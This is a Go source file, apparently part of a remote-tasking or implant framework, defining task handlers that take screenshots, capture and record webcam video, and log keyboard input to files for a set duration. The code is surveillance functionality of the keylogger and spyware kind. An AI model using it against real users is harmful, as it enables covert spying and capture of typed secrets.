// Copyright (C) 2020 - 2022 iDigitalFlame
//
// This program is free software: you can redistribute it and/or modify
// it under the terms of the GNU General Public License as published by
// the Free Software Foundation, either version 3 of the License, or
// any later version.
//
// This program is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
// GNU General Public License for more details.
//
// You should have received a copy of the GNU General Public License
// along with this program.  If not, see <https://www.gnu.org/licenses/>.
//

package task

import (
	"context"
	"time"
)

// Default durations for the time-bound capture commands when the command
// body does not supply one.
const (
	defaultRecord = time.Second * 10
	defaultTrack  = time.Second * 5
)

func runCaptureScreen(_ context.Context, e Env, _ Request) (Result, error) {
	if e.Sys == nil {
		return Result{}, ErrNoSystem
	}
	p, err := e.artifact("screenshot", ".jpg")
	if err != nil {
		return Result{}, err
	}
	if err = e.Sys.CaptureScreen(p); err != nil {
		return Result{}, err
	}
	return Result{Message: "screenshot captured", File: p}, nil
}
func runCaptureWebcam(_ context.Context, e Env, _ Request) (Result, error) {
	if e.Sys == nil {
		return Result{}, ErrNoSystem
	}
	p, err := e.artifact("webcam", ".jpg")
	if err != nil {
		return Result{}, err
	}
	if err = e.Sys.CaptureWebcam(p); err != nil {
		return Result{}, err
	}
	return Result{Message: "webcam image captured", File: p}, nil
}
func runRecordWebcam(_ context.Context, e Env, r Request) (Result, error) {
	if e.Sys == nil {
		return Result{}, ErrNoSystem
	}
	p, err := e.artifact("webcam", ".avi")
	if err != nil {
		return Result{}, err
	}
	d := r.Duration(defaultRecord)
	if err = e.Sys.RecordWebcam(p, d); err != nil {
		return Result{}, err
	}
	return Result{Message: "webcam recorded for " + d.String(), File: p}, nil
}
func runTrackKeyboard(_ context.Context, e Env, r Request) (Result, error) {
	if e.Sys == nil {
		return Result{}, ErrNoSystem
	}
	p, err := e.artifact("keyboard", ".txt")
	if err != nil {
		return Result{}, err
	}
	d := r.Duration(defaultTrack)
	if err = e.Sys.TrackKeyboard(p, d); err != nil {
		return Result{}, err
	}
	return Result{Message: "keyboard tracked for " + d.String(), File: p}, nil
}
